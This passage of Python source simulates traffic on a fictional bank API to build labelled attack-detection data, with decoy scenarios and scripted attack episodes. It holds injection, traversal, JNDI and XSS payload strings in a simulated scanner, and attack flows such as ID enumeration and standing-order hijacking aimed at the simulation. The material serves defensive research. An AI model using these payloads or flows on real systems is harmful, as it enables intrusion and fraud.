            else: A('GET', f'/public/branches?near={r.choice(["60311", "50667", "20095"])}')
    def session(w, u, web=None, n=None):
        r, S = w.r, w.S; d, hr = (S.now - w.st) / DAY, ((S.now - w.st) / HOUR + 2) % 24
        if u['away'] and u['away'][0] < d < u['away'][1]: return
        web = (r.random() < u['webby']) if web is None else web; cl = u['web'] if web else u['phone']; at = u['office'] and 8.5 < hr < 17.5 and int(d) % 7 < 5; cl.dc = u.get('dc')
        if u.get('trip') and u['trip'][0] < d < u['trip'][1]: w.move(cl, r.choice(['49.228.14.71', '49.228.201.9', '1.46.33.120', '185.159.157.4'])); cl.dc = 'D-travel'
        elif at: w.move(cl, u['office']); cl.dc = cl.dc or 'D-nat'
        else: w.move(cl, r.choice(w.cg) if not web and r.random() < u['mob'] else w.home(u))
        new = not web and S.now > u['upd']
        if new and cl.h['X-App-Version'] != '5.9.0': cl.h['X-App-Version'], cl.ua = '5.9.0', cl.ua.replace('5.8.1', '5.9.0')
        yield from w.enter(cl, u, web)
        if 'Authorization' not in cl.h: return
        if new: w.api(cl, 'GET', '/api/v2/home')
        else:
            if web: w.api(cl, 'GET', AV + '/customers/me')
            else: w.api(cl, 'GET', AV + '/messages/unread-count')
            w.api(cl, 'GET', AV + '/accounts')
        yield from w.acts(cl, u, n or 1 + int(r.lognormvariate(.6, .6)), new)
        if web and r.random() < .6: w.api(cl, 'POST', '/auth/logout', js=dict(refresh_token=cl.rt)); cl.rt = cl.h.pop('Authorization', None) and None
    def live(w, u, first=0):
        for t in w.S.human_starts(u['rate'], peaks=((7.6, 1), (12.6, 1.5), (17.5, 2), (20.3, 1.6)), weekend=.8):
            if t >= w.st + first * DAY: w.S.spawn(t, w.session(u))
    def signup(w, cl, pw=None, code=True, k=None, wait=60):
        """sign up, first log-in; calls k(customer) at the end"""; r, S = w.r, w.S; g, f = r.choice(GIVEN), r.choice(FAMILY); mail = f'{g}.{f}{r.randint(1000, 9999)}@mail.example'.lower()
        o = dict(givenName=g, familyName=f, email=mail, phone=f'+49 16{r.randint(0, 9)} {r.randint(1000000, 9999999)}', birthDate=f'{r.randint(1955, 2006)}-0{r.randint(1, 9)}-1{r.randint(0, 9)}')
        S.call(cl, 'GET', f'/public/onboarding/email-check?email={quote(mail)}'); yield wait * r.uniform(.3, 1.5)
        if wait > 30 and r.random() < .25: S.call(cl, 'POST', '/public/onboarding/applications', js=dict(o, birthDate=''))
        a = S.call(cl, 'POST', '/public/onboarding/applications', js=o)
        if a.st != 201: return
        yield wait * r.uniform(1, 6); S.call(cl, 'PUT', f'/public/onboarding/applications/{a.body["applicationId"]}/identification', js=dict(method=r.choice(['EID', 'VIDEO']), documentNumber=f'L{r.randint(10 ** 7, 10 ** 8)}'))
        yield wait * r.uniform(.5, 3); x = S.call(cl, 'POST', f'/public/onboarding/applications/{a.body["applicationId"]}/submit', js=dict(password=pw or f'{r.choice(WORDS)}{r.randint(1000, 99999)}', acceptTerms=True))
        if x.st != 201: return
        u = w.equip(w.app.cust[x.body['customerNumber']], r.randint(0, 4)); u['login'], cl.ident, cl.exp, cl.rt = u['cid'], u['cid'], 0, None; yield wait * r.uniform(.5, 2); w.login(cl, u); w.api(cl, 'GET', AV + '/accounts')
        if code: yield wait * .5; w.api(cl, 'POST', AV + '/rewards/redemptions', js=dict(code='WILLKOMMEN25'))
        if k: k(u, cl)


DECOYS = [('D-nat', 'shared_nat', 'twelve customers in one company office behind one address'), ('D-probe', 'monitor_probe', 'availability monitor from outside, metrics and health from inside'), ('D-fraud', 'nightly_batch', 'fraud batch reads the payments of the day by pages at 02:15 with a service token'), ('D-agent', 'agent_reads_many', 'call-centre agents open the records of whoever calls'), ('D-tpp', 'third_party_sync', 'third parties read accounts by consent and start payments'), ('D-tppmove', 'partner_moves', 'day 11: third party finflow moves to other egress addresses and a new client version'), ('D-newver', 'new_app_version', 'from day 10 app 5.9.0 uses v2 calls (home, cursor pages)'), ('D-outage', 'outage_retry_storm', 'day 8: 24 minutes of 503 and the retries in it'), ('D-fail', 'failing_page', 'day 7: statement PDFs answer 500 for a day, people try again'), ('D-export', 'annual_export', 'day 15: a customer downloads 70 statements of three accounts for the tax adviser in one evening'), ('D-bulk', 'bulk_edit_operator', 'day 10: back office changes the limits of 140 customers after a regulation'), ('D-scan', 'internal_scanner', "day 15: the bank's own security scanner runs from inside with attack strings"), ('D-power', 'heavy_legit_user', 'a bakery uses accounting software, twenty times the median, with pay days of 40 payments'), ('D-travel', 'travel_new_device', 'days 9-12: a customer travels in Asia, loses the phone and logs in with a new one'), ('D-forget', 'forgetful_user', 'two customers mistype, are locked and unlocked by an agent'), ('D-audit', 'auditor', 'days 16-17: a newly made auditor reads audit events and 45 customer records a day'), ('D-poa', 'power_of_attorney', 'from day 8 a daughter reads and uses the accounts of her mother by a mandate'), ('D-sms', 'sms_outage', 'day 11 17-20 h: TANs come late or not at all: many challenges, guesses, give-ups')]


def build(name, seed, attacks, start='2026-06-01', days=21):
    st = ts(start); app = Bank(random.Random(seed + 1), st, st + 14 * DAY + 2 * HOUR if attacks else None)
    S = Sim(name, 'Aurelia Bank: retail bank API (Spring Boot manner), synthetic', st, days, '10.80.4.20', 8443, HOST, app, seed, 2, 'No X-Forwarded-For; client addresses direct; ordinary calls that meet the grown answer are labelled K08.')
    r, w = S.rng, World(S, app)
    for d in DECOYS: S.decoy(*d)
    w.active = [app.customer() for _ in range(200)]; w.passive = [app.customer(True) for _ in range(900)]; app.down = [(st + 4 * DAY + 2.5 * HOUR, st + 4 * DAY + 2.57 * HOUR), (S.local(8, 10.2), S.local(8, 10.2) + 24 * MIN)]
    app.fail = [('/api/v1/accounts/{iban}/statements/{id}', S.local(7, 7), S.local(7, 22.5))]
    if attacks: app.beta = st + 12 * DAY
    for k in range(420): c = r.choice(w.active); b = app.ben[r.choice(c['bens'])]; app.newpay(c, c['accs'][0], b['iban'], b['name'], round(r.lognormvariate(4.3, 1), 2), st - (420 - k) * 3000, 'Rechnung', 'BOOKED')
    for i, u in enumerate(w.active):
        w.equip(u, i)
        if i % 8: app.rt[f'{i:03}' + b64(r.randbytes(30))] = (u['cid'], ['CUSTOMER'], st - r.random() * 25 * DAY)
        if i % 8: u['phone'].rt = next(reversed(app.rt))
        if 20 <= i < 32: u.update(office='217.91.44.18', webby=.6, rate=max(.5, u['rate']))
        if i in (40, 41): u.update(forget=True, webby=.8, rate=.8)
        if i % 15 == 7: u['away'] = (5 + i % 5, 10 + i % 7)
        if i % 30 == 11:
            def device(u=u, i=i): u['phone'] = w.phone('5.9.0' if S.now > u['upd'] else '5.8.1', w.home(u), u['cid'], i + 2); u['phone'].exp, u['phone'].rt = 0, None; return; yield
            S.spawn(st + r.uniform(2, 19) * DAY, device())
        if i % 12 == 5:
            def moved(u=u): u['home'] = w.addr(); return; yield
            S.spawn(st + r.uniform(2, 19) * DAY, moved())
    biz, trav, exp, dau, mum = w.active[50], w.active[51], w.active[52], w.active[53], w.active[54]; biz.update(dc='D-power', webby=1, rate=4, home='80.152.77.20', seg='BUSINESS', limit=20000)
    biz['web'].ua = 'StarMoney/14.0 (Windows 10; HBCI-Bridge)'; trav.update(trip=(9, 12.6), rate=1.4, webby=0); exp.update(rate=.3, away=None); dau.update(rate=.9, webby=.1)
    while len(exp['accs']) < 3: app.account(exp)
    for a in exp['accs']:
        while len(app.acc[a]['stm']) < 24: app.acc[a]['stm'].append(app.nid('stm')); app.stm[app.acc[a]['stm'][-1]] = dict(id=app.n['stm'], iban=a, k=len(app.acc[a]['stm']))
    for i, u in enumerate(w.active): w.live(u)
    for u in (w.active[60], w.active[61], w.active[62]): u['home'] = w.active[60]['home']      # a family behind one router
    def newdev(): trav['phone'] = w.phone('5.8.1', '49.228.14.71', trav['cid'], 3); trav['phone'].exp, trav['phone'].rt = 0, None; yield from w.session(trav, False)
    S.spawn(S.local(10, 12), newdev())
    def payday(d):
        cl = biz['web']; cl.dc = 'D-power'; yield from w.enter(cl, biz, True)
        for b in (biz['bens'] * 40)[:40]: yield from w.pay(cl, biz, biz['accs'][0], app.ben[b]['iban'], app.ben[b]['name'], r.choice([980, 1450.5, 2100, 2310.75]), dc='D-power'); yield r.uniform(2, 9)
    for d in (4, 18): S.spawn(S.local(d, 10.5), payday(d))
    def export():
        cl = exp['web']; cl.dc = 'D-export'; w.move(cl, w.home(exp)); yield from w.enter(cl, exp, True)
        for a in exp['accs']:
            for p in range(2):
                v = w.api(cl, 'GET', f'{AV}/accounts/{a}/statements?page={p}&size=12').body
                for x in v.get('_embedded', {}).get('statements', []): yield r.uniform(4, 14); w.api(cl, 'GET', f'{AV}/accounts/{a}/statements/{x["id"]}')
            w.api(cl, 'GET', f'{AV}/accounts/{a}/transactions?page=0&size=200&sort=bookingDate,desc')
        cl.dc = None
    S.spawn(S.local(15, 20), export())
    # --- staff
    n, w.staff = 10400, []
    for role, k in (('BRANCH', 10), ('AGENT', 8), ('BACKOFFICE', 3), ('ADMIN', 2), ('BRANCH', 1), ('AGENT', 2), ('AUDIT', 1)):
        for _ in range(k):
            n += r.randint(3, 19); i = len(w.staff)
            e = dict(id=f'E{n}', pw=f'{r.choice(WORDS).title()}-{n}', role=role, on=False, hired={23: 8, 24: 6, 25: 13, 26: 16}.get(i, 0), away=(6, 12) if i in (3, 12) else None, mean=r.lognormvariate(9.2, .4))
            e['desk'] = f'10.30.5.{20 + i}' if role == 'AGENT' else f'10.20.{i % 4}.{11 + i % 3}' if role == 'BRANCH' else f'10.10.0.{30 + i}'
            e['cl'] = Client(e['desk'], EDGE if i % 3 else WEB[2], e['id'], dc=dict(AGENT='D-agent', AUDIT='D-audit').get(role), headers={'Origin': 'https://desk.aureliabank.example'}); e['cl'].exp, e['cl'].rt = 0, None
            app.staff[e['id']] = e; w.staff.append(e)
    w.agents = [e for e in w.staff if e['role'] == 'AGENT']; admin = w.staff[21]
    def start_shift(e):
        cl = e['cl']; w.move(cl, f'10.60.{r.randint(1, 3)}.{r.randint(10, 250)}' if r.random() < .2 and e['role'] != 'BRANCH' else e['desk'])
        if r.random() < .08: w.login(cl, e, e['pw'] + ' ')
        k = 0
        while not w.login(cl, e, **({'dc': 'D-outage'} if k else {})) and k < 6: k += 1; yield 2 ** k
        e['on'] = True
    def shift(e, hours=8):
        cl, A = e['cl'], lambda m, q, **k: w.api(e['cl'], m, q, **k); yield from start_shift(e); end = S.now + hours * HOUR
        while S.now < end:
            l, k = A('GET', '/staff/tasks?page=0&size=20'), 0
            while l.st == 503 and k < 6: yield 5 * 2 ** k; k, l = k + 1, A('GET', '/staff/tasks?page=0&size=20', dc='D-outage')
            if l.st == 200:
                t = r.choice(l.body['_embedded']['tasks']); A('GET', f'/staff/tasks/{t["id"]}'); yield r.uniform(3, 20); c = t['customerNumber']
                if r.random() < .15: A('GET', f'/staff/customers?search={quote(app.cust[c]["family"])}&page=0&size=20')
                A('GET', f'/staff/customers/{c}'); yield r.uniform(5, 40); v = A('GET', f'/staff/customers/{c}/accounts').body; v = v.get('_embedded', {}).get('accounts', []) if isinstance(v, dict) else []
                if v and r.random() < .4: A('GET', f'/staff/accounts/{r.choice(v)["iban"]}/transactions?page=0&size=20')
                yield r.uniform(20, 200)
                if r.random() < .5: A('POST', f'/staff/customers/{c}/notes', js=dict(text=r.choice(['Kunde angerufen', 'Rueckruf morgen', "client's card; ordered -- ok", 'Adresse geprueft'])))
                if r.random() < .05: A('PUT', f'/staff/customers/{c}/limits', js=dict(dailyLimit=r.choice([2000, 5000, 10000])))
                A('POST', f'/staff/tasks/{t["id"]}/completion', js=dict(result='DONE'))
            yield r.expovariate(1 / e['mean'])
        e['on'] = False
    def adminday(e):
        yield from start_shift(e)
        for _ in range(r.randint(3, 9)):
            q = r.choice([('GET', '/admin/users?page=0&size=20'), ('GET', '/admin/audit-events?page=0&size=50'), ('PUT', f'/admin/feature-flags/{r.choice(["insights", "vop", "v2home"])}'), ('PUT', f'/admin/users/{r.choice(w.staff)["id"]}/roles'), ('GET', '/actuator/env'), ('GET', '/actuator/loggers')])
            w.api(e['cl'], *q, js=dict(enabled=True, roles=['STAFF']) if q[0] == 'PUT' else None); yield r.uniform(60, 1500)
    def audit(e):
        yield from start_shift(e)
        for p in range(8): w.api(e['cl'], 'GET', f'/admin/audit-events?page={p}&size=50'); yield r.uniform(20, 90)
        for c in r.sample(list(app.cust), 45):
            w.api(e['cl'], 'GET', f'/staff/customers/{c}')
            if r.random() < .5: w.api(e['cl'], 'GET', f'/staff/customers/{c}/accounts')
            yield r.uniform(60, 300)
    for i, e in enumerate(w.staff):
        if e['hired']: S.spawn(S.local(e['hired'] - 1, 15), (x for x in (w.api(admin['cl'], 'POST', '/admin/users', js=dict(id=e['id'], role=e['role'])) and 1 for e in (e,))))
        for d in range(e['hired'], days):
            off = (d % 7 >= 5) if e['role'] != 'AGENT' else (d + i) % 7 >= 5
            if off or (e['away'] and e['away'][0] <= d < e['away'][1]): continue
            g = adminday(e) if e['role'] == 'ADMIN' else audit(e) if e['role'] == 'AUDIT' else shift(e)
            if e['role'] != 'AUDIT' or d < 18: S.spawn(S.local(d, {'AGENT': [7, 13][i % 2], 'ADMIN': 10}.get(e['role'], 8.7)) + r.random() * 1200, g)
    def bulk(e):
        for c in r.sample(list(app.cust), 140): w.api(e['cl'], 'PUT', f'/staff/customers/{c}/limits', js=dict(dailyLimit=2500), dc='D-bulk'); yield r.uniform(12, 40)
    S.spawn(S.local(10, 14), bulk(w.staff[18])); S.spawn(S.local(8, 9.6), (w.api(w.staff[0]['cl'], 'POST', f'/staff/customers/{mum["cid"]}/mandates', js=dict(attorney=dau['cid'], iban=a)) and 5 for a in list(mum['accs'])))
    # --- third parties, batch, monitors
    def secret(n): return 'Basic ' + base64.b64encode(f'{n}:{app.tpp[n]["secret"]}'.encode()).decode()
    w.secret, w.mycons = secret, defaultdict(list)
    for n, role in (('tpp-finflow', 'AISP'), ('tpp-payhelper', 'PISP'), ('svc-fraud', 'SVC')): app.tpp[n] = dict(secret=r.randbytes(16).hex(), role=role, scope={'SVC': 'fraud'}.get(role, role.lower() + ' accounts'))
    for u in r.sample(w.active, 30):
        k = uid(r); t = 'tpp-finflow' if len(w.mycons['tpp-finflow']) < 20 else 'tpp-payhelper'; app.consent[k] = dict(consentId=k, tpp=t, cid=u['cid'], ibans=u['accs'][:2], status='valid', validUntil='2026-08-01'); w.mycons[t].append(k)
    fin, ph = Client('3.122.40.17', 'FinFlow-AIS/3.4 (Java/21)', 'tpp-finflow', dc='D-tpp'), Client('2a05:d014:41:7::21', 'payhelper-connect/1.9 axios/1.6.8', 'tpp-payhelper', dc='D-tpp'); w.fin, w.ph = fin, ph; fin.exp = ph.exp = 0
    fin.rt = ph.rt = None
    def cc(cl, n, **k):
        if S.now > cl.exp - 30:
            x = S.call(cl, 'POST', '/oauth2/token', form=dict(grant_type='client_credentials', scope='accounts'), h={'Authorization': secret(n)}, ident=n, **k)
            if w.take(cl, x): cl.exp = S.now + 3600
    w.cc = cc
    def sync(cl, n, hours):
        while True:
            yield max(1, min(x for x in ((S.local(d, h) - S.now) for d in range(days) for h in hours) if x > 0) if S.now < S.local(days - 1, max(hours)) else 30 * DAY) + r.random() * 300
            if n == 'tpp-finflow' and S.now > S.local(11, 5) and cl.dc != 'D-tppmove': cl.ua, cl.dc = 'FinFlow-AIS/4.0 (Java/21)', 'D-tppmove'
            if cl.dc == 'D-tppmove': w.move(cl, r.choice(['18.196.7.80', '18.196.7.81']))
            for k in list(w.mycons[n]):
                cc(cl, n); a = S.call(cl, 'GET', '/open-banking/v1/accounts', h={'Consent-ID': k})
                if a.st == 401: w.mycons[n].remove(k)
                for x in a.body.get('accounts', []) if a.st == 200 else []: yield r.uniform(.3, 3); S.call(cl, 'GET', f'/open-banking/v1/accounts/{x["iban"]}/transactions?bookingStatus=booked', h={'Consent-ID': k})
                yield r.uniform(1, 9)
    S.spawn(st + 5, sync(fin, 'tpp-finflow', (6, 18))); S.spawn(st + 9, sync(ph, 'tpp-payhelper', (7.5,)))
    def opay():
        while True:
            yield r.expovariate(1 / 9000)
            if not 7 < ((S.now - st) / HOUR + 2) % 24 < 22: continue
            cc(ph, 'tpp-payhelper'); u, o = r.choice(w.active), r.choice(w.active)
            p = S.call(ph, 'POST', '/open-banking/v1/payments/sepa-credit-transfers', js=dict(debtorIban=u['accs'][0], creditorIban=o['accs'][0], instructedAmount=dict(amount=f'{r.lognormvariate(3.5, .8):.2f}', currency='EUR'), creditorName=o['family']))
            for _ in range(3 if p.st == 201 else 0):
                yield r.uniform(20, 50)
                if S.call(ph, 'GET', f'/open-banking/v1/payments/sepa-credit-transfers/{p.body["paymentId"]}/status').body.get('transactionStatus') == 'ACSC': break
    S.spawn(st + 700, opay())
    def newcon(u):
        cl, n = r.choice([(fin, 'tpp-finflow'), (ph, 'tpp-payhelper')]); cc(cl, n)
        c = S.call(cl, 'POST', '/open-banking/v1/consents', js=dict(access=dict(allPsd2='allAccounts'), validUntil='2026-09-01', recurringIndicator=True)).body['consentId']; yield 20; yield from w.enter(u['web'], u, True); yield 15
        if 'Authorization' in u['web'].h: w.api(u['web'], 'POST', f'{AV}/consents/{c}/approval', js=dict(ibans=u['accs'][:2]))
        yield 5
        if S.call(cl, 'GET', f'/open-banking/v1/consents/{c}/status').body.get('consentStatus') == 'valid': w.mycons[n].append(c)
        if r.random() < .4:
            yield r.uniform(1, 6) * DAY; yield from w.enter(u['web'], u, True); v = w.api(u['web'], 'GET', AV + '/consents').body.get('_embedded', {}).get('consents', [])
            for x in v: w.api(u['web'], 'DELETE', f'{AV}/consents/{x["consentId"]}')
    for d in range(1, days, 2): S.spawn(S.local(d, r.uniform(10, 21)), newcon(w.active[64 + d]))
    def fraud():
        cl = Client('10.40.2.8', 'fraud-batch/2.7 (Spring RestClient)', 'svc-fraud', dc='D-fraud'); cl.exp, cl.rt = 0, None
        while True:
            yield S.local(0, 2.25) + (1 + (S.now - S.local(0, 2.25)) // DAY) * DAY - S.now + r.random() * 20; cc(cl, 'svc-fraud')
            for p in range(20):
                x = S.call(cl, 'GET', f'/internal/fraud/payments?page={p}&size=50'); v = x.body.get('_embedded', {}).get('payments', []) if x.st == 200 else []
                if not v: break
                S.call(cl, 'POST', '/internal/fraud/scores', js=dict(scores=[dict(id=y['id'], score=r.randint(0, 99)) for y in v])); yield r.uniform(.5, 2)
            if time.gmtime(S.now).tm_wday == 0: S.call(cl, 'POST', '/internal/statements/runs', js=dict(week=day(S.now)))
    S.spawn(st + 3, fraud())
    def tick(ip, ua, path, every, **h):
        cl = Client(ip, ua, None, dc='D-probe', headers=h)
        while True: S.call(cl, 'GET', path); yield every + r.random() * 3
    for i, x in enumerate((('52.48.17.3', 'Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)', '/public/status', 1800), ('10.10.0.9', 'Prometheus/2.51.2', '/actuator/prometheus', 2700), ('10.10.1.4', 'kube-probe/1.29', '/actuator/health', 2700), ('10.40.2.3', 'treasury-fx/1.1', '/public/fx-rates', 4 * HOUR))): S.spawn(st + i * 7 + 1, tick(*x))
    def kiosk():
        cl = Client('10.20.3.90', 'AureliaKiosk/2.2 (Windows CE)', 'kiosk', headers={'X-API-Key': app.zkey})
        while S.now < S.local(5, 18):
            if 8.5 < ((S.now - st) / HOUR + 2) % 24 < 18: S.call(cl, 'GET', f'/mobile/v0/customers/{r.choice(w.active)["cid"]}/overview')
            yield r.expovariate(1 / 2200)
    S.spawn(st + 4000, kiosk())
    def scan():
        cl = Client('10.99.3.7', 'Mozilla/5.0 (compatible; Qualys WAS; sec-ops@aureliabank.example)', None, dc='D-scan'); u = w.active[63]; cl.exp, cl.rt = 0, None; w.login(cl, u)
        for p in ['/' + x for x in ('.env', '.git/config', 'admin', 'swagger-ui.html', 'v3/api-docs', 'actuator', 'actuator/env', 'h2-console', 'manager/html', 'api/v1', 'api/v3/accounts', 'backup.zip')] + [f'{AV}/{a}{b}' for a in ('accounts', 'payments', 'cards', 'beneficiaries', 'messages', 'loans') for b in ('/1', "/1'", '/..%2f..%2fetc%2fpasswd', '?sort=T(java.lang.Runtime)', '?page=-1', '?size=a', '/%3Cscript%3E', '/1%20OR%201=1', '/{{7*7}}', '?q=${jndi:ldap://10.99.3.7/a}')] * 2 + ['/public/branches?near=' + quote(x) for x in ("' or 1=1--", '<svg onload=1>', '; id', '${7*7}', '../../etc/passwd')] * 6:
            w.api(cl, r.choice(['GET', 'GET', 'GET', 'OPTIONS', 'PUT']), p); yield r.uniform(.5, 4)
    S.spawn(S.local(15, 23), scan())
    def webhooks(u):
        for _ in range(3):
            yield r.uniform(20, 100) * HOUR; yield from w.enter(u['web'], u, True)
            if 'Authorization' in u['web'].h:
                w.api(u['web'], 'PUT', AV + '/notifications/webhook', js=dict(url=f'https://hooks.{r.choice(WORDS)}-shop.example/bank/{r.randint(1, 99)}', events=['BOOKING'])); yield 8
                w.api(u['web'], 'POST', AV + '/notifications/webhook/test', js={})
    for u in w.active[90:97] + [biz]: S.spawn(st + r.random() * 3 * DAY, webhooks(u))
    for d in range(days):
        for _ in range(r.choice([0, 1, 1, 2, 3])):
            a = w.addr(); cl = w.phone('5.9.0' if d > 11 else '5.8.1', w.full(a))
            def joined(u, cl, a=a): u['phone'], u['home'] = cl, a; w.live(u, (S.now - st) / DAY + .3)
            S.spawn(S.local(d, r.uniform(9, 22)), w.signup(cl, code=r.random() < .6, k=joined))
    if attacks: attack(S, app, w)
    S.run(); return S


EPISODES = [('K01', 'bola_enumeration', 'API1', 'actor', 'easy', 'a customer walks payment numbers downward on /receipt, 170 in 20 minutes; told by consecutive ids never listed to him and 404s between'),
    ('K02', 'bola_enumeration_slow', 'API1', 'actor', 'hard', 'a customer opens one or two beneficiaries of others in each of some 28 ordinary sessions over seven days; told by ids that none of his lists held'),
    ('K03', 'bola_write_standing_order', 'API1', 'actor', 'medium', 'a customer changes the creditor of standing orders of others to one IBAN; told by PUT on ids not in his list, all with the same creditor'),
    ('K04', 'bola_nested_statement', 'API1', 'actor', 'hard', 'own IBAN with statement ids of others, 12-15 an evening on four evenings; told by ids that the statement list of that IBAN does not hold'),
    ('K05', 'bfla_staff_limits', 'API5', 'actor', 'medium', 'a customer raises limits by the staff function, which lacks the role check; told by a customer token from outside on /staff'),
    ('K06', 'unauthenticated_private_object', 'API2', 'actor+endpoint', 'medium', 'attachments are read by number without any token, 75 in three hours; told by the missing token, which all others send, and by numbers no message showed to this address'),
    ('K07', 'mass_assignment', 'API3', 'actor', 'hard', 'profile PATCH carries segment, kycLevel and dailyLimit, then a payment above the old limit; told by body fields that no client program sends'),
    ('K08', 'response_schema_growth_pii', 'API3', 'endpoint', 'medium', 'for four days after a release payment answers carry tax id, birth date, telephone, address and risk score of the creditor; told by the new fields'),
    ('K09', 'credential_stuffing_distributed', 'API2', 'endpoint', 'hard', '170 addresses with two or three log-ins each, mostly unknown e-mail addresses, over 30 hours; three succeed and are looked at; told by the rise of failures of first-seen names from first-seen addresses'),
    ('K10', 'password_spraying', 'API2', 'endpoint', 'hard', 'one password for 95 customer numbers from four addresses, 6 to 20 minutes apart; told by four addresses that fail with a new name each time'),
    ('K11', 'user_enumeration', 'API2', 'actor', 'easy', '260 e-mail addresses asked of the onboarding check in half an hour, told by the number from one address and that no application follows'),
    ('K12', 'otp_brute_force', 'API2', 'actor', 'medium', 'a log-in with a stolen password starts a payment and guesses the TAN 190 times over ever new challenges; told by one payment with 63 challenges and only wrong TANs from a new address'),
    ('K13', 'multi_account_payee_scrape', 'API6', 'endpoint', 'hard', '30 accounts opened for the purpose ask the payee check for 8-13 consecutive IBANs a day on four days, the bank answers holder names; told by payee checks without payments and ascending IBANs over accounts'),
    ('K14', 'insider_exfiltration', 'API4', 'actor', 'medium', 'a branch clerk pages the whole customer list by 100 after hours and opens 60 wealthy ones; told by the hour, full paging, and that no task was opened before'),
    ('K15', 'stolen_token', 'API2', 'actor', 'hard', "a customer's refresh token is used from a hosting network with another client for two days, few calls; told by one subject at two networks and client programs at once"),
    ('K16', 'leaked_api_key', 'API2', 'actor', 'medium', "finflow's client secret is used from a foreign address with a script, all its consents with long periods; told by new network and program while the partner goes on as before"),
    ('K17', 'jwt_forging', 'API2', 'actor', 'medium', 'alg none, changed sub, key-confusion and guessed kids until a development kid is accepted, then seven customers are read; told by changing headers and subjects of tokens that were never issued, first 401, then 200'),
    ('K18', 'ssrf', 'API7', 'actor', 'medium', 'web hook test of a business customer is pointed at metadata and loopback addresses; told by the URLs and what the answers bring back'),
    ('K19', 'sql_injection_search', 'API8', 'actor', 'medium', 'booking search: quotes give 500, then UNION gives rows of other customers with 200; told by the strings and foreign names and IBANs in the answer'),
    ('K20', 'application_dos_params', 'API4', 'actor+endpoint', 'medium', 'schedule months=120000 and page size=100000 from two accounts, six to eight seconds each; told by parameters a thousand times the usual and the time they take'),
    ('K21', 'flow_skip_tan', 'API6', 'actor', 'hard', 'stolen session: payments are executed without TAN request and authorisation, nine in two days; told by the missing steps of the flow'),
    ('K22', 'business_logic_negative_amount', 'API6', 'actor', 'hard', 'payments of a negative amount pull money from other accounts, eleven in three days, every answer is 200 or 201; told by the sign of the amount'),
    ('K23', 'internal_endpoint_external', 'API9', 'actor+endpoint', 'medium', 'actuator env, loggers and heap dump, are read from outside; told by the address, all earlier callers are inside'),
    ('K24', 'zombie_endpoint', 'API9', 'actor+endpoint', 'medium', 'the old kiosk overview, unused since day 5, answers an outsider with the key of the old program for 45 customers; told by a path that came back from outside and a new customer in each call'),
    ('K25', 'shadow_endpoint', 'API9', 'endpoint', 'medium', 'an undocumented beta endpoint appears and is called without token by three addresses; told by a path never seen before that gives personal data without token'),
    ('K26', 'content_discovery_slow', 'API9', 'actor', 'hard', 'with the client names of the app and a valid token three addresses try an unknown path every 25 minutes or so for two and a half days; told by nearly all paths being unknown to every other client'),
    ('K27', 'bonus_farming_bot', 'API6', 'actor', 'medium', '26 sign-ups in four hours from seven addresses redeem the bonus and send it to one IBAN; told by machine pace, shared addresses and the common creditor'),
    ('K28', 'bola_tpp_without_consent', 'API1', 'actor', 'hard', 'third party payhelper reads bookings of IBANs known from payments under the consent of others, five to eight a day among its ordinary calls; told by IBANs that GET accounts of that consent does not list')]


def attack(S, app, w):
    r, st, T = S.rng, S.start, S.local
    for k, kind, ow, scope, diff, text in EPISODES: S.episode(k, kind, ow + ':2023', scope, diff, text)
    who = [u for u in w.active[100:190] if not u['away'] and len(u['bens']) > 1 and u['rate'] < .6]; M, HOSTED = iter(who), ['45.134.26.%d', '193.32.162.%d', '185.220.101.%d', '141.98.11.%d']
    mule = iban_of(r.randint(10 ** 6, 10 ** 9), '10011001')
    def cli(ip, ua, ident=None, ep=None, app_=False): cl = Client(ip, ua, ident, ep=ep) if not app_ else w.phone('5.9.0', ip, ident, ep=ep); cl.exp, cl.rt = 0, None; return cl
    def own(u, ep, ua=None):
        """the customer at home, by browser or script"""; cl = cli(w.home(u), ua or u['web'].ua, u['cid'], ep)
        if not ua: cl.h.update(u['web'].h)
        cl.h.pop('Authorization', None); w.login(cl, u); w.api(cl, 'GET', AV + '/accounts'); return cl
    def k01(u):
        cl = own(u, 'K01'); yield from w.pay(cl, u, u['accs'][0], app.ben[u['bens'][0]]['iban'], 'Probe', 1.0); b = w.api(cl, 'GET', AV + '/payments?page=0&size=10').body['_embedded']['payments'][0]['id']
        for i in range(170): w.api(cl, 'GET', f'{AV}/payments/{b - 1 - i}/receipt'); yield r.uniform(4, 10)
    S.spawn(T(9, 21), k01(next(M)))
    def k02(u):
        base = u['bens'][0]; pool = [b for b in app.ben if abs(b - base) < 1500 and b not in u['bens']]
        for d in range(7, 14):
            for h in sorted(r.uniform(8, 22) for _ in range(4)):
                yield max(5, T(d, h) - S.now); yield from w.session(u, True, 2)
                if 'Authorization' not in u['web'].h: yield from w.enter(u['web'], u, True)
                w.api(u['web'], 'GET', AV + '/beneficiaries')
                for _ in range(r.choice([1, 1, 2])): yield r.uniform(5, 40); w.api(u['web'], 'GET', f'{AV}/beneficiaries/{pool.pop(r.randrange(len(pool))) if r.random() < .8 else base + r.randint(-900, 900)}', ep='K02')
    S.spawn(T(7, 7), k02(next(M)))
    def k03(u):
        cl = own(u, 'K03'); v = w.api(cl, 'GET', AV + '/standing-orders')
        for n in [n for n in app.so if app.so[n]['cid'] != u['cid']][40:57] + [3100224500, 3100224702]:
            yield r.uniform(20, 90); w.api(cl, 'PUT', f'{AV}/standing-orders/{n}', js=dict(creditorIban=mule, creditorName='Vermieter', interval='MONTHLY', nextExecution='2026-07-01', amount=r.choice([120, 850, 50])))
    S.spawn(T(16, 19), k03(next(u for u in M if u['sos'])))
    def k04(u):
        ids = sorted(n for n in app.stm if app.stm[n]['iban'] not in u['accs'])
        for d in (10, 11, 13, 14):
            yield max(5, T(d, r.uniform(18, 21)) - S.now); yield from w.session(u, True, 1)
            if 'Authorization' not in u['web'].h: yield from w.enter(u['web'], u, True)
            w.api(u['web'], 'GET', f'{AV}/accounts/{u["accs"][0]}/statements?page=0&size=12')
            for _ in range(r.randint(12, 15)): yield r.uniform(10, 150); w.api(u['web'], 'GET', f'{AV}/accounts/{u["accs"][0]}/statements/{r.choice(ids)}', ep='K04')
    S.spawn(T(10, 9), k04(next(M)))
    def k05(u):
        cl = own(u, 'K05')
        for p in ('/staff/tasks', f'/staff/customers/{u["cid"]}'): w.api(cl, 'GET', p); yield r.uniform(10, 50)
        for c in [u['cid'], u['cid']] + [x['cid'] for x in r.sample(w.active, 4)]: w.api(cl, 'PUT', f'/staff/customers/{c}/limits', js=dict(dailyLimit=r.choice([20000, 50000]))); yield r.uniform(30, 200)
    S.spawn(T(12, 20), k05(next(M)))
    def k06():
